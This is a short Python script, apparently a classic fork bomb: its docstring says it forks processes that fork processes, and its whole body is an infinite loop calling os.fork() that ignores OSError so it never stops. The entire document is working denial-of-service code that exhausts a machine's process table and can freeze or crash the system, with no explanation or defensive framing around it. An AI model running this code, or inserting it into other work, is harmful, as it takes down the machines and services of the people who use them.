"""Forks processes that fork processes."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
